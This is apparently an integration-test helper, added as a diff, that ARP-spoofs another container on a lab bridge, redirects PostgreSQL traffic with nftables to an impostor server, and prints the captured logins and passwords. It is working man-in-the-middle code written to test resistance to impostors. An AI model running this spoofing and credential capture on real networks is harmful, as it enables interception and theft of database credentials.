@@ -1,0 +1,69 @@
+"""A neighbour on the lab's bridge that claims another container's address, from root's network in its own container.
+
+`spoof.py ADDRESS VICTIM VICTIM_MAC TLS SECONDS` gives the victim the container's own MAC address for ADDRESS, and
+answers its connections as an impostor of PostgreSQL. TLS is `none`, or the file of a certificate. It prints the
+received logins and passwords as JSON.
+"""
+
+from __future__ import annotations
+
+import json
+import socket
+import subprocess
+import sys
+import threading
+import time
+from ipaddress import IPv4Address
+from pathlib import Path
+
+from tests.integration.impostor import impostor
+
+DEVICE = "eth0"
+_ARP, _REPLY = 0x0806, b"\0\1\x08\0\6\4\0\2"
+_RULES = """table ip spoof {{
+  chain prerouting {{
+    type nat hook prerouting priority dstnat; policy accept;
+    ip daddr {address} tcp dport 5432 redirect to :{port}
+  }}
+}}
+"""
+
+
+def mac(text: str) -> bytes:
+    """Return the bytes of a MAC address."""
+    return bytes.fromhex(text.replace(":", ""))
+
+
+def claim(address: str, victim: str, victim_mac: str, over: threading.Event) -> None:
+    """Tell the victim ten times a second that this container has the address."""
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        raw.bind((DEVICE, _ARP))
+        own = raw.getsockname()[4]
+        frame = mac(victim_mac) + own + _ARP.to_bytes(2) + _REPLY
+        frame += own + IPv4Address(address).packed + mac(victim_mac) + IPv4Address(victim).packed
+        while not over.wait(0.1):
+            raw.send(frame)
+
+
+def main() -> None:
+    """Spoof for the given time; see the module's docstring."""
+    address, victim, victim_mac, tls, seconds = sys.argv[1:]
+    certificate = None if tls == "none" else Path(tls).read_text()
+    over = threading.Event()
+    with impostor(certificate, "0.0.0.0") as running:  # noqa: S104 - in the container's network
+        rules = _RULES.format(address=address, port=running.port)
+        subprocess.run(["nft", "-f", "-"], input=rules.encode(), check=True)
+        claiming = threading.Thread(target=claim, args=(address, victim, victim_mac, over))
+        claiming.start()
+        try:
+            time.sleep(float(seconds))
+        finally:
+            over.set()
+            claiming.join()
+            subprocess.run(["nft", "delete", "table", "ip", "spoof"], check=True)
+    passwords, logins = ([each.decode() for each in found] for found in (running.passwords, running.logins))
+    print(json.dumps({"connections": running.connections, "passwords": passwords, "logins": logins}))
+
+
+if __name__ == "__main__":
+    main()
